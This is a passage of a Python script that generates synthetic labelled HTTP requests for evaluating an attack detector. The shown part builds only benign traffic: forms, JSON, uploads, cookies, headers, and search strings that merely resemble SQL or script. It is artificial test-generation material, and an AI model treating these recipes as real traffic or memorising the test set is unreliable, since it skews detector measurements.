"""Generated requests for what the recorded data lacks.

Enters: a seed. Leaves: labelled requests in the `eval` format, on standard output. Benign: forms, JSON, GraphQL,
multipart uploads, rich text, names with apostrophes, English that reads like SQL, modern browsers' and clients'
headers and cookies. Malicious: the classes of which the recorded data has few or none. These are recipes, not
recordings: figures measured on them say little, and the manifest keeps them apart.
"""

import base64
import json
import random
import string
import struct
import sys
import urllib.parse
import zlib

R = random.Random(20261)

FIRST = """Anna Ben Chloé Dmitri Élodie Fatima Giovanni Hanna Ibrahim José Katarzyna Liam Maria Niamh Olga Pedro Quinn Rosa
Søren Tomáš Ursula Viktor Wei Xavier Yuki Zoë Seán Siobhán Jürgen Françoise Björn Aoife Mehmet Priya Nguyen D'Angelo""".split()
LAST = """O'Brien O'Connor O'Neill D'Souza D'Angelo L'Estrange M'Bala O'Reilly Smith-Jones Müller García Nowak van-Dijk
Kowalski Rossi Ivanov Andersson Yılmaz Nakamura Singh Okafor Fernández Lefèvre Schmidt Johnson Williams Brown Taylor
St.John McDonald MacLeod Al-Sayed Ben-David Þórsson Øster O'Hara O'Malley Dell'Acqua N'Diaye""".split()
NOUN = """order table group union selection database server script image window document account password message
report meeting invoice update delivery customer project plan house garden kitchen music concert ticket bicycle camera
printer paper coffee bread cheese phone battery charger lamp chair shoes jacket dress shirt book novel recipe holiday
flight hotel beach mountain weather football game player team station train bus street bridge river school teacher
student lesson exam course language translation office desk drawer cabinet function class object method variable file
folder system command shell terminal process kernel module package version release drop cursor index key value null
column row view trigger procedure schema host port proxy gateway network router cable admin root user guest passwd
etc alert prompt frame object embed link style sleep benchmark wait delay exec cat dog bird echo ping curl""".split()
VERB = """select order update delete insert drop create join group like find buy sell compare send receive open close
read write print save cancel return exchange repair clean cook travel visit learn teach play watch listen call email
sleep wait run execute load import export include require alert confirm""".split()
ADJ = """best cheap new used red blue large small fast slow fresh local free open public private secure simple modern
old good bad warm cold light heavy wooden digital annual weekly""".split()
FILL = """the a from where in on with and or not by for to of at into between all any is as like having order limit
union select my your our this that if then else case when end set""".split()
SEARCHES = """how to union station from airport|select committee report from 2024|drop in classes where to find|order by phone
or online|where to eat in Rome and Milan|what is 1=1 in logic|rock 'n' roll greatest hits|it's a wonderful life|don't stop
believin'|children's books for 5-year-olds|6" pipe fitting|27" monitor 1440p|5'11" in cm|C++ vs Rust|C# tutorial|.NET 8
download|node.js express|how to use <div> in html|css a > b selector|what does <3 mean|price < $20|price > 100 and < 200|50% off
|100% cotton|R&D tax credit|AT&T store|M&M's 1kg|Q&A session|black & white photo|salt & pepper -low sodium|"exact phrase"
search|site map -old|cats OR dogs|jobs AND remote|weather in São Paulo|übung macht den meister|où est la gare|¿dónde está
la biblioteca?|日本語 入力|погода в москве|مرحبا|how to select all from a table in excel|insert image into document|delete
from cart|update my address|create table of contents|alter ego meaning|grant application form|union jack flag|having
trouble with login|group by age lesson plan|sleep(8) hours or more|wait for it|null and void|cast iron pan|convert 10 km to
miles|exec summary template|shutdown computer command|ping command windows|cat food|wget vs curl|ls -la meaning|chmod 755
explained|/etc/hosts file location|what is /dev/null|c:\\program files missing|file:///home not found|javascript alert box
example|onclick event javascript|document.cookie explained|base64 decode online|how do I escape ' in SQL?|select * from
table tutorial|../ relative path html|{{ mustache }} templates|${variable} in bash|$100 gift card|#1 fan|@home|user@example.com
|+49 (0)30 1234567|(555) 123-4567|3 + 4 * (2 - 1)|x^2 + y^2 = z^2|f(x) = sin(x)|a/b testing|24/7 service|24 x 36 frame; black
|24-70mm f/2.8|ISO/IEC 27001|he said: "no way!"|wow!!! really???|:-) ;-)|to be, or not to be|Smith; John|Hall & Oates - Maneater
|AC/DC|Guns N' Roses|O'Reilly books|L'Oréal|McDonald's near me|Levi's 501|T-shirt (XL)|size 42 | 43|men's & women's shoes|
[solved] printer offline|50 % [sale]|~user|50€ voucher|£20|¥1000|5°C|½ cup|naïve café|100 000|1,000.50|10.5%""".replace("\n", " ").split("|")
SITES = "www.example.com shop.example.net app.example.org blog.site.example cdn.example.com login.example.com m.example.de".split()
TLDPATH = "products/shoes blog/2026/05/how-we-build wiki/Foo_(bar) search users/me/orders about-us docs/v2/api category/men's-wear".split()


def words(n):
    return " ".join(R.choice(R.choice((NOUN, VERB, ADJ, FILL, FILL))) for _ in range(n))


def name():
    return f"{R.choice(FIRST)} {R.choice(LAST)}"


def sentence():
    text = words(R.randint(4, 16)).capitalize()
    for _ in range(R.randint(0, 3)):
        at = R.choice([i for i, c in enumerate(text) if c == " "] or [0])
        text = text[:at] + R.choice([",", " -", ";", ":", " (really)", " \"quoted\"", " don't", " it's", " I'd", " &", " +", " / ", "...", " e.g."]) + text[at:]
    return text + R.choice([".", "!", "?", "", "...", ".\n", " :-)", "\r\n\r\n"])


def token(n, alphabet=string.ascii_letters + string.digits):
    return "".join(R.choice(alphabet) for _ in range(n))


def b64(n):
    return base64.b64encode(R.randbytes(n)).decode()


def hexa(n):
    return token(n, "0123456789abcdef")


def uuid():
    return "-".join(hexa(n) for n in (8, 4, 4, 4, 12))


def part64(value):
    return base64.urlsafe_b64encode(json.dumps(value, separators=(",", ":")).encode()).decode().rstrip("=")


def jwt():
    claims = {"sub": uuid(), "name": name(), "iat": R.randint(1.6e9, 1.8e9), "scope": "read write", "iss": f"https://{R.choice(SITES)}/"}
    return f'{part64({"alg": "RS256", "typ": "JWT"})}.{part64(claims)}.{token(R.randint(43, 342), string.ascii_letters + string.digits + "-_")}'


def password():
    return R.choice([
        lambda: token(R.randint(8, 20), string.ascii_letters + string.digits + "!@#$%^&*()-_=+[]{};:,.<>?/|~`'\""),
        lambda: token(R.randint(6, 14), string.ascii_letters + string.digits) + R.choice("!?#$*"),
        lambda: R.choice(NOUN).capitalize() + str(R.randint(1, 9999)) + R.choice("!$#@'&;"),
        lambda: "-".join(R.choice(NOUN) for _ in range(4)),
    ])()


def url():
    base = f"{R.choice(('https', 'https', 'http'))}://{R.choice(SITES)}"
    path = R.choice(["", "/", f"/{R.choice(TLDPATH)}", f"/{token(6)}/{R.randint(1, 9999)}.html", f"/img/{hexa(12)}.jpg"])
    query = R.choice(["", "", f"?id={R.randint(1, 99999)}", f"?q={urllib.parse.quote_plus(R.choice(SEARCHES))}&page={R.randint(1, 9)}",
                      f"?utm_source=newsletter&utm_medium=email&utm_campaign={token(8)}", f"?next=%2Faccount%3Ftab%3D{R.choice(NOUN)}", "#top"])
    return base + path + query


def email():
    user = R.choice([f"{R.choice(FIRST)}.{R.choice(LAST)}", f"{token(8).lower()}", f"{R.choice(NOUN)}+{R.choice(NOUN)}"])
    return f"{user.lower()}@{R.choice(SITES)}"


def date():
    y, m, d, h, i, s = R.randint(1950, 2027), R.randint(1, 12), R.randint(1, 28), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59)
    return R.choice([f"{y}-{m:02}-{d:02}", f"{d:02}.{m:02}.{y}", f"{m}/{d}/{y}", f"{y}-{m:02}-{d:02}T{h:02}:{i:02}:{s:02}.{R.randint(0, 999):03}Z",
                     f"{y}-{m:02}-{d:02} {h:02}:{i:02}:{s:02}", f"{h:02}:{i:02}", f"{y}-{m:02}-{d:02}T{h:02}:{i:02}:{s:02}+02:00"])


def address():
    return R.choice([f"{R.randint(1, 250)} {R.choice(LAST)} Street, Apt #{R.randint(1, 99)}", f"{R.choice(LAST)}straße {R.randint(1, 99)}a",
                     f"{R.randint(1, 99)} rue de l'{R.choice(NOUN).capitalize()}", f"P.O. Box {R.randint(10, 999)}; {R.choice(LAST)}", f"Unit {R.randint(1, 9)}/{R.randint(1, 99)} {R.choice(LAST)} Rd."])


def markdown():
    return R.choice([
        lambda: f"# {words(3).title()}\n\n{sentence()}\n\n* {words(3)}\n* {words(4)}\n\n> {sentence()}\n\n[{words(2)}]({url()})",
        lambda: f"**{words(2)}**: {sentence()} `{R.choice(NOUN)}` and _{words(1)}_\n\n---\n\n1. {words(4)}\n2. {words(3)}",
        lambda: f"| {words(1)} | {words(1)} |\n|---|:--:|\n| {R.randint(1, 99)} | {R.randint(1, 99)} % |\n\n![{words(1)}](/img/{token(8)}.png)",
        lambda: f"Hi {R.choice(FIRST)},\r\n\r\n{sentence()} {sentence()}\r\n\r\nBest regards,\r\n{name()}\r\n-- \r\nTel.: +49 (0)30 {R.randint(10000, 99999)}",
    ])()


def rich():
    return R.choice([
        lambda: f"<p>{sentence()}</p><p><strong>{words(2)}</strong> {sentence()}</p>",
        lambda: f"<p>{sentence()}<br></p><ul><li>{words(3)}</li><li><em>{words(2)}</em></li></ul>",
        lambda: f'<p><a href="{url()}" target="_blank" rel="noopener">{words(2)}</a>&nbsp;{sentence()}</p>',
        lambda: f'<h2 style="text-align: center;">{words(3)}</h2><p><img class="alignleft" src="/uploads/{token(8)}.jpg" alt="{words(2)}" width="300" height="200" /></p>',
        lambda: f'<div class="row"><span style="color: rgb(0, 0, 0);">{sentence()}</span></div>',
        lambda: f"<!-- wp:paragraph -->\n<p>{sentence()}</p>\n<!-- /wp:paragraph -->",
    ])()


def text():
    return R.choice([
        name, sentence, sentence, lambda: R.choice(SEARCHES), lambda: R.choice(SEARCHES), lambda: words(R.randint(1, 4)), email, address, date,
        lambda: R.choice(LAST), lambda: R.choice(FIRST), lambda: str(R.randint(0, 10**R.randint(1, 12))), url, uuid,
        lambda: f"{R.uniform(-180, 180):.6f},{R.uniform(-90, 90):.6f}", lambda: f"{R.randint(1, 999)}.{R.randint(0, 99):02}", lambda: token(R.randint(3, 24)),
        lambda: hexa(R.choice((8, 16, 32, 40, 64))), lambda: b64(R.randint(6, 60)), lambda: R.choice(("true", "false", "on", "off", "1", "0", "null", "undefined", "asc", "desc", "-created_at", "name:asc")),
        lambda: ",".join(str(R.randint(1, 999)) for _ in range(R.randint(2, 8))), lambda: "|".join(words(1) for _ in range(R.randint(2, 5))),
        lambda: f"{R.choice(('image', 'text', 'application'))}/{R.choice(('png', 'html', 'json', 'svg+xml', '*'))}", lambda: f"v{R.randint(0, 9)}.{R.randint(0, 30)}.{R.randint(0, 9)}-beta.{R.randint(1, 9)}",
        lambda: f"{R.choice(NOUN)}.{R.choice(('js', 'css', 'png', 'php', 'html', 'json', 'txt', 'sql', 'sh'))}", lambda: f"/{R.choice(TLDPATH)}?tab={R.choice(NOUN)}", lambda: f"#{hexa(6)}",
        lambda: f"rgba({R.randint(0, 255)}, {R.randint(0, 255)}, {R.randint(0, 255)}, 0.{R.randint(0, 9)})", lambda: f"{R.choice(NOUN)}:{R.choice(NOUN)} {R.choice(NOUN)}:>={R.randint(1, 99)}",
        lambda: f"{R.choice(FIRST)[0]}. {R.choice(LAST)} & {R.choice(LAST)}", lambda: f"({words(2)}) - {words(2)}", lambda: f"{R.choice(ADJ)}; {words(2)}", lambda: f"{words(2)} = {R.randint(1, 99)}",
        lambda: f"en-GB;q=0.{R.randint(1, 9)}", lambda: f"{R.randint(1, 20)}x{R.randint(1, 20)}:{R.choice(NOUN)}*{R.randint(1, 9)}", lambda: ":".join(str(R.randint(0, 9)) for _ in range(R.randint(3, 9))),
        lambda: f"urn:{R.choice(NOUN)}:{R.choice(NOUN)}:{R.randint(1, 999)}", lambda: f"data:image/png;base64,{b64(40)}", jwt,
        lambda: f"{R.choice(NOUN)}({R.randint(1, 9)}, '{R.choice(NOUN)}')" if R.random() < 0.15 else words(2),
        lambda: "".join(R.choice("äöüßéèàçñøåłžščćřőűıİğşæœ" + string.ascii_lowercase) for _ in range(R.randint(4, 12))),
        lambda: "".join(chr(R.randint(0x4E00, 0x9FA5)) for _ in range(R.randint(2, 12))) + R.choice(["", "。", "！"]),
        lambda: "".join(chr(R.randint(0x0410, 0x044F)) for _ in range(R.randint(4, 16))) + R.choice(["", ", ", "?"]),
        lambda: R.choice(["👍", "❤️ thanks!", "😀😀", "🎉 " + words(2)]),
    ])()


KEYS = """q s query search id page sort order name first_name last_name email phone address city zip country message comment
title body content description subject tags category user username login password redirect next return_to url ref lang
locale filter from to date start end limit offset size color qty price sku variant token csrf_token _token state code
action type format v callback utm_source session_id device width height lat lng text note bio website company file""".split()


def value_for(key):
    if key == "password":
        return password()
    if key in ("redirect", "next", "return_to", "url", "ref", "callback", "website"):
        return R.choice([url(), f"/{R.choice(TLDPATH)}", f"/{R.choice(NOUN)}?{R.choice(KEYS)}={R.choice(NOUN)}&page=2"])
    if key in ("message", "comment", "body", "content", "description", "note", "bio", "text"):
        return R.choice([sentence, lambda: " ".join(sentence() for _ in range(R.randint(2, 6))), markdown, rich, text])()
    if key in ("q", "s", "query", "search"):
        return R.choice([lambda: R.choice(SEARCHES), lambda: R.choice(SEARCHES), text, lambda: words(R.randint(1, 5)), name])()
    return text()


def pairs(n):
    return [(R.choice(KEYS) if R.random() < 0.9 else f"{R.choice(KEYS)}[{R.choice(['', '0', R.choice(KEYS)])}]", None) for _ in range(n)]


def urlencoded(n):
    quote = R.choice((urllib.parse.quote_plus, urllib.parse.quote, lambda s: urllib.parse.quote(s, safe="/:,;@!$'()*~?[]|")))
    return "&".join(f"{key}={quote(value_for(key.split('[')[0]))}" for key, _ in pairs(n))


def json_value(depth=0):
    pick = R.random()
    if depth < 3 and pick < 0.25:
        return {R.choice(KEYS): json_value(depth + 1) for _ in range(R.randint(1, 5))}
    if depth < 3 and pick < 0.4:
        return [json_value(depth + 1) for _ in range(R.randint(0, 4))]
    if pick < 0.55:
        return R.choice([None, True, False, R.randint(-5, 10**6), round(R.uniform(-100, 100), 4)])
    return value_for(R.choice(KEYS))


def graphql():
    field = lambda: R.choice(KEYS)
    query = R.choice([
        lambda: f"query Get{R.choice(NOUN).title()}($id: ID!, $first: Int = {R.randint(1, 50)}) {{ {field()}(id: $id) {{ id {field()} {field()} {field()}(first: $first) {{ edges {{ node {{ id {field()} }} cursor }} pageInfo {{ hasNextPage }} }} }} }}",
        lambda: f"mutation {{\n  update{R.choice(NOUN).title()}(input: {{id: \"{R.randint(1, 999)}\", {field()}: \"{words(2)}\"}}) {{\n    {field()}\n    errors {{ message }}\n  }}\n}}",
        lambda: f"{{ {field()} {{ {field()} {field()} ... on User {{ name }} __typename }} }}",
    ])()
    return {"operationName": None, "query": query, "variables": {"id": str(R.randint(1, 999)), R.choice(KEYS): text()}}


def event():
    return R.choice([
        lambda: {"csp-report": {"document-uri": url(), "referrer": url(), "violated-directive": "script-src-elem", "effective-directive": "script-src-elem", "original-policy": "default-src 'self'; script-src 'self' 'unsafe-inline' https://cdn.example.com; report-uri /csp", "blocked-uri": "inline", "status-code": 200}},
        lambda: {"message": R.choice(["Uncaught TypeError: Cannot read properties of undefined (reading 'map')", "ReferenceError: foo is not defined", "Script error."]), "stack": f"TypeError: x is not a function\n    at Object.<anonymous> ({url()}:12:{R.randint(1, 999)})\n    at render (webpack:///./src/index.js?{hexa(4)}:1:1)", "url": url(), "userAgent": agent()},
        lambda: {"events": [{"type": "click", "selector": "#main > div.row:nth-child(2) > a[href=\"/cart\"]", "ts": R.randint(1.6e12, 1.8e12), "page": url(), "title": sentence()} for _ in range(R.randint(1, 4))]},
        lambda: {"jsonrpc": "2.0", "method": f"{R.choice(NOUN)}.{R.choice(VERB)}", "params": [text(), R.randint(1, 99), {"cmd": R.choice(NOUN)}], "id": R.randint(1, 99)},
        lambda: {"query": {"bool": {"must": [{"match": {"title": words(2)}}], "filter": [{"range": {"price": {"gte": 10, "lt": 200}}}]}}, "sort": [{"date": "desc"}], "from": 0, "size": 20},
    ])()


def png():
    raw = b"".join(b"\0" + R.randbytes(48) for _ in range(16))
    chunk = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    text_chunk = chunk(b"tEXt", b"Software\0Adobe ImageReady") if R.random() < 0.5 else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) + text_chunk + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def jpeg():
    xmp = b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="GIMP 2.10"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    head = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    return head + (b"\xff\xe1\2\0http://ns.adobe.com/xap/1.0/\0" + xmp if R.random() < 0.4 else b"") + R.randbytes(R.randint(400, 3000)) + b"\xff\xd9"


def upload():
    return R.choice([
        lambda: (f"{R.choice(NOUN)}.png", "image/png", png()),
        lambda: (f"IMG_{R.randint(1000, 9999)}.JPG", "image/jpeg", jpeg()),
        lambda: (f"{R.choice(FIRST)}'s {R.choice(NOUN)} ({R.randint(1, 9)}).jpeg", "image/jpeg", jpeg()),
        lambda: (f"{words(2)} v{R.randint(1, 9)}.pdf", "application/pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + R.randbytes(900) + b"\n%%EOF"),
        lambda: (f"{R.choice(NOUN)}.csv", "text/csv", "\r\n".join(";".join((name(), email(), date(), f"\"{words(2)}\"", str(R.randint(1, 99)))) for _ in range(R.randint(3, 20))).encode()),
        lambda: ("notes.txt", "text/plain", "\n".join(sentence() for _ in range(R.randint(2, 12))).encode()),
        lambda: ("data.json", "application/json", json.dumps(json_value()).encode()),
        lambda: (f"{R.choice(NOUN)}.md", "text/markdown", markdown().encode()),
        lambda: ("logo.svg", "image/svg+xml", b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>'),
        lambda: ("feed.xml", "text/xml", f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>{words(3)}</title><link>{url().replace("&", "&amp;")}</link></channel></rss>'.encode()),
        lambda: ("archive.zip", "application/zip", b"PK\3\4" + R.randbytes(1500)),
    ])()


def multipart():
    boundary = R.choice([f"----WebKitFormBoundary{token(16)}", f"---------------------------{R.randint(10**28, 10**29)}", hexa(32)])
    body = b""
    for _ in range(R.randint(0, 4)):
        key = R.choice(KEYS)
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value_for(key)}\r\n'.encode()
    for _ in range(R.randint(0, 2)):
        filename, kind, data = upload()
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="{R.choice(("file", "image", "upload", "avatar", "files[]"))}"; filename="{filename}"\r\nContent-Type: {kind}\r\n\r\n'.encode() + data + b"\r\n"
    return f"multipart/form-data; boundary={boundary}", body + f"--{boundary}--\r\n".encode()


def xml():
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><Get{R.choice(NOUN).title()} xmlns="http://example.com/ns"><{R.choice(NOUN)}>{words(2)}</{R.choice(NOUN)}><Id>{R.randint(1, 999)}</Id></Get{R.choice(NOUN).title()}></soap:Body></soap:Envelope>'


def agent():
    v = R.randint(90, 152)
    platform = R.choice(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64", "Linux; Android 14; Pixel 8", "X11; CrOS x86_64 14541.0.0", "Linux; Android 10; K"])
    return R.choice([
        lambda: f"Mozilla/5.0 ({platform}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
        lambda: f"Mozilla/5.0 ({platform}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.{R.randint(1000, 7000)}.{R.randint(1, 200)} Safari/537.36 Edg/{v}.0.0.0",
        lambda: f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36",
        lambda: f"Mozilla/5.0 ({platform}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
        lambda: f"Mozilla/5.0 (iPhone; CPU iPhone OS {R.randint(14, 18)}_{R.randint(0, 6)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{R.randint(14, 18)}.0 Mobile/15E148 Safari/604.1",
        lambda: f"curl/{R.randint(7, 8)}.{R.randint(1, 88)}.{R.randint(0, 2)}", lambda: f"Wget/1.{R.randint(15, 24)}.{R.randint(1, 5)}", lambda: f"python-requests/2.{R.randint(20, 32)}.{R.randint(0, 3)}", lambda: f"Python-urllib/3.{R.randint(8, 14)}",
        lambda: f"python-httpx/0.{R.randint(20, 28)}.0", lambda: f"Python/3.{R.randint(8, 13)} aiohttp/3.{R.randint(8, 11)}.{R.randint(0, 9)}", lambda: "Go-http-client/1.1", lambda: f"okhttp/4.{R.randint(8, 12)}.0", lambda: "axios/1.7.2", lambda: "node-fetch", lambda: "node",
        lambda: f"PostmanRuntime/7.{R.randint(30, 43)}.0", lambda: "Apache-HttpClient/4.5.14 (Java/17.0.9)", lambda: "Java/17.0.2", lambda: "Scrapy/2.11.2 (+https://scrapy.org)", lambda: f"Dalvik/2.1.0 (Linux; U; Android {R.randint(9, 15)}; SM-G99{R.randint(0, 9)}B Build/TP1A.220624.014)",
        lambda: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", lambda: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", lambda: "Mozilla/5.0 (compatible; ExampleCrawler/1.0; +https://example.com/bot)",
        lambda: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", lambda: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", lambda: "Prometheus/2.53.0", lambda: "kube-probe/1.30", lambda: "ELB-HealthChecker/2.0", lambda: "UptimeRobot/2.0", lambda: "git/2.43.0", lambda: "Lynx/2.9.0 libwww-FM/2.14", lambda: "Links (2.28; Linux)", lambda: "hey/0.0.1", lambda: "ApacheBench/2.3", lambda: "crawler/1.0", lambda: "qantra-honest-client/1.0",
    ])()


def cookie():
    return R.choice([
        lambda: f"_ga=GA1.2.{R.randint(1, 10**9)}.{R.randint(1, 10**10)}", lambda: f"_ga_{token(10).upper()}=GS1.1.{R.randint(1, 10**10)}.{R.randint(1, 9)}.1.{R.randint(1, 10**10)}.0.0.0", lambda: f"PHPSESSID={token(26).lower()}",
        lambda: f"session={token(R.randint(20, 120), string.ascii_letters + string.digits + '-_.')}", lambda: f"csrftoken={token(32)}", lambda: f"XSRF-TOKEN={urllib.parse.quote(b64(80))}", lambda: f"connect.sid=s%3A{token(32)}.{urllib.parse.quote(b64(32), safe='')}",
        lambda: f"theme={R.choice(('dark', 'light'))}", lambda: f"lang={R.choice(('en-US', 'de', 'fr_FR'))}", lambda: f"cart={urllib.parse.quote(json.dumps({'items': [{'id': R.randint(1, 99), 'qty': 1}]}))}", lambda: f"jwt={jwt()}", lambda: f"__cf_bm={token(40, string.ascii_letters + string.digits + '._-')}",
        lambda: f"OptanonConsent=isGpcEnabled=0&datestamp={urllib.parse.quote('Tue May 19 2026 10:11:12 GMT+0200 (Central European Summer Time)')}&version=202401.2.0&interactionCount=1&groups=C0001%3A1%2CC0002%3A0", lambda: f"wordpress_logged_in_{hexa(32)}=admin%7C{R.randint(1, 10**10)}%7C{token(43)}%7C{hexa(64)}",
        lambda: f"remember_me={urllib.parse.quote(b64(60))}", lambda: f"recent={urllib.parse.quote(R.choice(SEARCHES))}", lambda: f"_fbp=fb.1.{R.randint(1, 10**13)}.{R.randint(1, 10**9)}", lambda: f"JSESSIONID={hexa(32).upper()}.node{R.randint(1, 9)}", lambda: f"messages={urllib.parse.quote('W1siX19qc29uX21lc3NhZ2UiLDAsMjUsIlN1Y2Nlc3MiXV0')}:1sX:{token(40)}", lambda: f"user={urllib.parse.quote(name())}", lambda: f"tz=Europe/Berlin", lambda: f"viewport=1920x1080", lambda: f"consent=1|{date()}|{uuid()}",
    ])()


def headers():
    out = [("Host", "site.example"), ("User-Agent", agent())]
    add = lambda share, key, make: out.append((key, make())) if R.random() < share else None
    add(0.9, "Accept", lambda: R.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7", "application/json, text/plain, */*", "application/json", "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", "text/css,*/*;q=0.1", "text/event-stream", "application/vnd.github+json", "application/openmetrics-text;version=1.0.0;q=0.5,text/plain;version=0.0.4;q=0.3,*/*;q=0.1"]))
    add(0.7, "Accept-Language", lambda: R.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr;q=0.8", "*", "pt-BR,pt;q=0.9,en;q=0.5"]))
    add(0.6, "Referer", url)
    add(0.5, "Cookie", lambda: "; ".join(cookie() for _ in range(R.randint(1, 6))))
    v = R.randint(90, 152)
    add(0.4, "Sec-CH-UA", lambda: R.choice([f'"Chromium";v="{v}", "Google Chrome";v="{v}", "Not-A.Brand";v="99"', f'"Not/A)Brand";v="8", "Chromium";v="{v}", "HeadlessChrome";v="{v}"', f'" Not A;Brand";v="99", "Chromium";v="{v}"', f'"Not(A:Brand";v="24", "Chromium";v="{v}", "Microsoft Edge";v="{v}"', f'"Not_A Brand";v="8", "Chromium";v="{v}"', f'"Not;A=Brand";v="99", "HeadlessChrome";v="{v}", "Chromium";v="{v}"', f'"(Not(A:Brand";v="99", "Google Chrome";v="{v}"']))
    add(0.4, "Sec-CH-UA-Platform", lambda: R.choice(['"Windows"', '"macOS"', '"Linux"', '"Android"', '""']))
    add(0.4, "Sec-CH-UA-Mobile", lambda: R.choice(["?0", "?1"]))
    add(0.4, "Sec-Fetch-Site", lambda: R.choice(["same-origin", "none", "cross-site"]))
    add(0.3, "Sec-Fetch-Mode", lambda: R.choice(["navigate", "cors", "no-cors"]))
    add(0.3, "Sec-Fetch-Dest", lambda: R.choice(["document", "image", "script", "empty", "style"]))
    add(0.2, "Sec-Fetch-User", lambda: "?1")
    add(0.3, "Upgrade-Insecure-Requests", lambda: "1")
    add(0.2, "Priority", lambda: R.choice(["u=0, i", "u=1, i", "u=4", "i"]))
    add(0.3, "Origin", lambda: f"https://{R.choice(SITES)}")
    add(0.2, "X-Requested-With", lambda: R.choice(["XMLHttpRequest", "com.example.app"]))
    add(0.15, "X-CSRF-Token", lambda: R.choice([b64(32), token(40)]))
    add(0.15, "Authorization", lambda: R.choice([f"Bearer {jwt()}", f"Bearer {token(40)}", f"Basic {base64.b64encode(f'{R.choice(NOUN)}:{password()}'.encode()).decode()}", f'Digest username="{R.choice(NOUN)}", realm="Private", nonce="{b64(20)}", uri="/", qop=auth, nc=00000001, cnonce="{hexa(8)}", response="{hexa(32)}", opaque="{hexa(16)}"', f"AWS4-HMAC-SHA256 Credential=AKIA{token(16).upper()}/20260519/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature={hexa(64)}"]))
    add(0.15, "X-Forwarded-For", lambda: ", ".join(".".join(str(R.randint(1, 254)) for _ in range(4)) for _ in range(R.randint(1, 3))))
    add(0.05, "Forwarded", lambda: 'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43')
    add(0.1, "Via", lambda: "1.1 vegur, 1.1 varnish (Varnish/7.1)")
    add(0.1, "Range", lambda: f"bytes={R.randint(0, 99999)}-{R.choice(['', R.randint(99999, 999999)])}")
    add(0.1, "If-Range", lambda: f'"{hexa(12)}-{hexa(6)}"')
    add(0.1, "traceparent", lambda: f"00-{hexa(32)}-{hexa(16)}-01")
    add(0.05, "baggage", lambda: f"sentry-environment=production,sentry-release={hexa(40)},sentry-public_key={hexa(32)},sentry-trace_id={hexa(32)}")
    add(0.1, "Cache-Control", lambda: R.choice(["no-cache", "max-age=0", "no-store, must-revalidate"]))
    add(0.05, "Expect", lambda: "100-continue")
    add(0.05, "Sec-WebSocket-Extensions", lambda: "permessage-deflate; client_max_window_bits")
    add(0.05, "From", lambda: "googlebot(at)googlebot.com")
    add(0.05, "X-Client-Data", lambda: b64(30))
    add(0.05, "X-Api-Key", lambda: token(32))
    add(0.04, "Save-Data", lambda: "on")
    add(0.04, "Range-Unit", lambda: "items")
    add(0.04, "Prefer", lambda: "return=representation; wait=10")
    add(0.03, "Content-Disposition", lambda: f"attachment; filename=\"{words(2)}.pdf\"; filename*=UTF-8''{urllib.parse.quote(words(2))}.pdf")
    add(0.03, "X-Hub-Signature-256", lambda: f"sha256={hexa(64)}")
    return out


def path():
    ext = lambda: R.choice(("js", "css", "png", "jpg", "svg", "woff2", "html", "php", "aspx", "json", "xml", "ico", "mp4", "webp", "map", "txt", "pdf"))
    return R.choice([
        lambda: "/", lambda: "/", lambda: f"/{R.choice(NOUN)}", lambda: f"/{R.choice(NOUN)}/{R.randint(1, 9999)}", lambda: f"/api/v{R.randint(1, 3)}/{R.choice(NOUN)}s/{R.choice([uuid(), str(R.randint(1, 9999)), 'me', email()])}", lambda: f"/static/{R.choice(('js', 'css', 'img', 'media'))}/{R.choice(NOUN)}.{hexa(8)}.{R.choice(('chunk', 'min', 'bundle'))}.{ext()}",
